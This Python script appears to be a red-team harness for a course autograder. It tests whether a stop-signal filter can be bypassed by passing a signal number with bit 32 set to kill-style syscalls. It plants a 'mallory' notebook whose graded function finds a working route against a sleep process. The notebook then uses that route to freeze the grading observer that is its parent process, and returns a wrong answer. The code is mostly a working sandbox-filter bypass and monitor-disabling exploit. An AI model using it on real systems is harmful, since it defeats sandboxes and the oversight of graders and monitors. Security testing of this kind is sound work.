"""a01 (ROOT): the stop signals are refused by a filter on the signal argument. Do the kernel's own syscalls take
only the low 32 bits (kill/tkill/tgkill/rt_sigqueueinfo take `int sig`, fcntl F_SETSIG takes `(int)arg`), so that
`kill(pid, (1<<32) | SIGSTOP)` passes a filter that compares 64 bits and still stops the target?
Part 1 (kernel, an answer cell): survey every route against a `sleep` of its own, printed into the cell's output.
Part 2 (check's child, ps1 partition_layers hidden check): stop its parent, the observer, by the first route that
stopped the `sleep`, and answer wrong. Graded as root with an honest control before and after."""
import os, sys, time, subprocess
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from r27 import *
from routes27 import ROUTES

SURVEY = ROUTES + r'''
import json as _json
_res = survey(19)
print("SURVEY SIGSTOP", _json.dumps(_res))
print("SURVEY SIGTSTP", _json.dumps(survey(20)))
'''
ANSWER = ROUTES + r'''
def partition_layers(costs, k):
    import os
    pp = os.getppid()
    if pp > 1:
        res = {}
        for fn in ALL[1:]:
            p = subprocess.Popen(["sleep", "20"])
            time.sleep(0.05)
            try:
                fn(p.pid, 19)
            except Exception:
                pass
            time.sleep(0.1)
            ok = state(p.pid) == "T"
            p.kill(); p.wait()
            if ok:
                r = fn(pp, 19)
                time.sleep(0.2)
                raise RuntimeError("observer %d stopped by %s: %r state %s" % (pp, fn.__name__, r, state(pp)))
        raise RuntimeError("no route stopped a sleep")
    return []
'''
dest = course("a01", {("ahonest", "ps1_memory"): honest("ps1_memory"),
                      ("mallory", "ps1_memory"): notebook("ps1_memory", append={"training_memory": SURVEY},
                                                          overrides={"partition_layers": ANSWER}),
                      ("zhonest", "ps1_memory"): honest("ps1_memory")})
t = time.time()
grade(dest, env=CANARY_ENV)
print("grading took %.0f s" % (time.time() - t))
report(dest)
s = scores(dest)
cell_outputs(dest, "mallory", "ps1_memory", {"training_memory", "partition_layers_optimal", "partition_layers_bad_input", "split_model_stages"})
print("host: processes of uids 65470-65534 left:", subprocess.run("ps -eo uid,pid,etimes,args | awk '$1>=65470 && $1<=65534'", shell=True, capture_output=True, text=True).stdout or "none")
cleanup(dest)
